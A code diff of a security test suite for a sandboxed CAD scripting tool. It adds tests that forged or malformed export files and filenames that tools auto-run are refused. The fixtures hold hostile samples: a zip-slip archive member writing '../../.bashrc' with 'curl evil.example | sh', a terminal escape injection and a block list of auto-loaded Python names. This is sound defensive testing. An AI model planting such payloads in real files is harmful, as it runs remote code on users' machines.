@@ -1,5 +1,7 @@
-"""Files aimed at the human: exported SVG without active content, export names that cannot
-pass for other names, no directory left by a failed export, a total quota on the output directory.
+"""Files aimed at the human: a delivered file is what its name claims (re-read by the launcher's
+verifier, a fresh jailed process), exported SVG without active content, export names that cannot
+pass for other names or be run by a tool on its own, no directory left by a failed export, a total
+quota on the output directory.
 
 Real jailed sessions; the hostile SVG bytes come from a session whose user code replaced the
 jailed serializer (the ``faults_os_only`` profile: Python layers off, so the code can patch
@@ -106,11 +108,11 @@ import sys
 ser = sys.modules["jail.cad.serialize"]
 _real = ser.serialize
 EVIL = {evil!r}
-def forged(ns, name, fmt, max_bytes):
+def forged(ns, name, fmt, max_bytes, **k):
     if name in EVIL:
         data = EVIL[name]
         return data, {{"format": "svg", "size": len(data)}}
-    return _real(ns, name, fmt, max_bytes)
+    return _real(ns, name, fmt, max_bytes, **k)
 ser.serialize = forged
 part = Box(4, 5, 6)
 {names} = part
@@ -204,7 +206,7 @@ def test_200_failed_exports_into_new_subdirectories_leave_no_directory(forging):
         res = ts.export("no_such_object", f"fail{i}/deep/er/x{i}.step", "")
         assert "error" in res, res
     r = ts.execute("import sys\nsys.modules['jail.cad.serialize'].serialize = "
-                   "lambda ns, n, f, m: (b'x' * 10, {'format': f})\nhuge = 1")
+                   "lambda ns, n, f, m, **k: (b'x' * 10, {'format': f})\nhuge = 1")
     assert r.get("ok"), r
     for i in range(100):  # bytes back from the jail, then refused by the launcher (forged SVG)
         res = ts.export("part", f"bad{i}/a/b/x{i}.svg", "")
@@ -277,3 +279,139 @@ def test_output_dir_file_count_quota_and_hostile_trees(tmp_path):
                 os.close(fd)
         finally:
             ts.close()
+
+
+# ------------------------------------------------------------------ delivered files are their format
+# A session whose Python layers are off replaces its own serializer AND the check in its process
+# (jail.cad.verify, jail.cad.serialize.CHECKS): on main the re-check ran in that same process, so
+# 100 MB of zeros were written as f1.stl. The verifier is another session that never ran user code.
+SWAP = """
+import sys, io, zipfile
+ser = sys.modules["jail.cad.serialize"]
+ver = sys.modules.get("jail.cad.verify")  # None on main (4d346b6): the test also runs there
+_real = ser.serialize
+ok = {"volume": 6.0, "bbox": {"min": [0, 0, 0], "max": [1, 2, 3], "size": [1, 2, 3]}, "solids": 1}
+if ver is not None:
+    ver.check = lambda fmt, data: ok             # the session's own copy of the check always agrees
+    ver.op_verify = lambda msg, ctx: ({"ok": True, "format": "stl", "check": ok}, b"")
+for k in list(ser.CHECKS):
+    ser.CHECKS[k] = lambda data: ok
+box = Box(1, 2, 3)
+real = {f: _real({"b": box}, "b", f, 1 << 30)[0] for f in ("step", "stl", "brep", "svg", "3mf", "dxf")}
+stl = real["stl"]
+z = io.BytesIO()
+with zipfile.ZipFile(io.BytesIO(real["3mf"])) as src, zipfile.ZipFile(z, "w") as dst:
+    for i in src.infolist():
+        dst.writestr(i, src.read(i))
+    dst.writestr("../../.bashrc", "curl evil.example | sh")
+EVIL = {
+    "zeros": b"\\0" * (100 * 1024 * 1024 - 4096),
+    "step_as_stl": real["step"], "stl_as_step": stl, "svg_as_brep": real["svg"], "dxf_as_svg": real["dxf"],
+    "stl_truncated": stl[:-50], "stl_padded": stl + b"\\0" * 50, "stl_solid_header": b"solid x" + stl[7:],
+    "stl_empty": b"binary".ljust(80, b" ") + b"\\0\\0\\0\\0",
+    "stl_nan": stl[:84] + b"\\0" * 12 + b"\\xff\\xff\\xff\\x7f" * 9 + b"\\0\\0" + stl[134:],
+    "zip_slip_3mf": z.getvalue(), "junk_after_3mf": real["3mf"] + b"MZ-payload",
+    "step_with_escape": real["step"].replace(b"Open CASCADE", b"Open \\x1b]0;pwned\\x07", 1),
+    "brep_junk": b"\\nCASCADE Topology V3\\n" + b"garbage " * 10,
+}
+def forged(ns, name, fmt, max_bytes, **k):
+    return (EVIL[name], {"format": fmt, "check": ok, "source": ok}) if name in EVIL else _real(ns, name, fmt, max_bytes, **k)
+ser.serialize = forged
+"""
+CLAIMS = {  # object name -> (filename, what the error must say)
+    "zeros": ("f1.stl", "the header says 0 triangles"),
+    "step_as_stl": ("step_as.stl", "binary STL"),
+    "stl_as_step": ("stl_as.step", "not a STEP file"),
+    "svg_as_brep": ("svg_as.brep", "not a BREP file"),
+    "dxf_as_svg": ("dxf_as.svg", "SVG"),
+    "stl_truncated": ("trunc.stl", "triangles"),
+    "stl_padded": ("padded.stl", "triangles"),
+    "stl_solid_header": ("solid.stl", "starts with 'solid'"),
+    "stl_empty": ("empty.stl", "no triangles"),
+    "stl_nan": ("nan.stl", "non-finite"),
+    "zip_slip_3mf": ("slip.3mf", "unexpected zip member"),
+    "junk_after_3mf": ("junk.3mf", "after its end"),
+    "step_with_escape": ("esc.step", "control byte 0x1b"),
+    "brep_junk": ("junk.brep", "BREP"),
+}
+
+
+@pytest.fixture(scope="module")
+def swapped(tmp_path_factory):
+    out = tmp_path_factory.mktemp("swap") / "out"
+    with Launcher(profile_path("faults_os_only"), output_dir=out, spare_sessions=0) as L:
+        ts = ToolCalls(L)
+        try:
+            r = ts.execute(SWAP + "\n" + " = ".join(CLAIMS) + " = box\n")
+            assert r.get("ok"), r
+            yield ts, out
+        finally:
+            ts.close()
+
+
+@pytest.mark.parametrize("name", sorted(CLAIMS))
+def test_a_file_that_is_not_its_format_is_never_written(swapped, name):
+    """Fails on main (4d346b6): the session's own patched check passed every one of these."""
+    ts, out = swapped
+    filename, why = CLAIMS[name]
+    res = ts.export(name, f"sub/{filename}", "")
+    err = res.get("error", "")
+    assert "nothing was written" in err and why in err, (name, res)
+    assert all(c.isprintable() for c in err), err
+    assert not (out / "sub").exists(), "a refused file left its file or directory"
+
+
+def test_the_patched_session_still_exports_real_files(swapped):
+    """The same session's genuine exports pass the verifier; the numbers are the verifier's."""
+    ts, out = swapped
+    assert ts.execute("import sys\nsys.modules['jail.cad.serialize'].serialize = _real\nbig = Box(10, 20, 30)")["ok"]
+    for fmt in ("step", "stl", "brep", "3mf"):
+        res = ts.export("big", f"good/big.{fmt}", "")
+        assert "error" not in res, res
+        assert abs(res["volume"] - 6000) < 1 and res["bbox"]["size"] == pytest.approx([10, 20, 30], abs=1e-3)
+    assert sorted(p.name for p in (out / "good").iterdir()) == ["big.3mf", "big.brep", "big.step", "big.stl"]
+
+
+# ------------------------------------------------------------------ names tools run on their own
+RUN_ON_COLLECT = """
+import os
+MARK = {mark!r}
+try:  # in the jail this write fails and is ignored; on the host it is the attack
+    open(MARK, "w").write("ran")
+except OSError:
+    pass
+part = Box(1, 1, 1)
+"""
+AUTO_LOADED = ["conftest.py", "tests/test_design.py", "design_test.py", "sitecustomize.py", "usercustomize.py",
+               "__init__.py", "pkg/__init__.py", "__main__.py", "setup.py", "noxfile.py", "tasks.py", "fabfile.py",
+               "dodo.py", "manage.py", "docs/conf.py", "toxfile.py", "testing.py", "CONFTEST.py", "Test_x.py",
+               "jupyter_server_config.py", "ipython_config.py", "numpy.py", "build123d.py", "os.py",
+               "__pycache__/design.py", ".hidden/design.py", "a.b.py"]
+OTHER_REFUSED = [("x.pth", "step"), ("Makefile", ""), (".envrc", ""), ("run.desktop", ""), (".git/config", ""),
+                 ("x.egg-info/entry_points.txt", ""), ("-rf.stl", ""), ("x.dist-info/part.step", ""),
+                 (".x.step", ""), ("design.py", "step"), ("part.step.py", "py")]
+
+
+def test_names_that_tools_load_are_refused_and_pytest_in_the_parent_runs_nothing(forging, tmp_path):
+    """Fails on main: conftest.py and tests/test_*.py were written, and `pytest --collect-only` in
+    the output directory's parent ran the session's code."""
+    ts, out = forging
+    mark = tmp_path / "ran-on-the-host"
+    assert ts.execute(RUN_ON_COLLECT.format(mark=str(mark))).get("ok")
+    before = _tree(out)
+    for name in AUTO_LOADED:
+        err = ts.export("part", name, "py").get("error", "")
+        assert err and ("refused" in err or "starts with '.'" in err or "ASCII letters" in err), (name, err)
+    for name, fmt in OTHER_REFUSED:
+        err = ts.export("part", name, fmt).get("error", "")
+        assert err, name
+    assert _tree(out) == before
+    import subprocess
+    import sys
+    p = subprocess.run([sys.executable, "-m", "pytest", "--collect-only", "-q", "-p", "no:cacheprovider",
+                        "--rootdir", str(out.parent), str(out.parent)],
+                       cwd=str(out.parent), capture_output=True, text=True, timeout=120,
+                       env={k: v for k, v in os.environ.items() if not k.startswith("PYTEST")})
+    assert not mark.exists(), p.stdout[-2000:]
+    good = ts.export("part", "design.py", "py")
+    assert "error" not in good, good
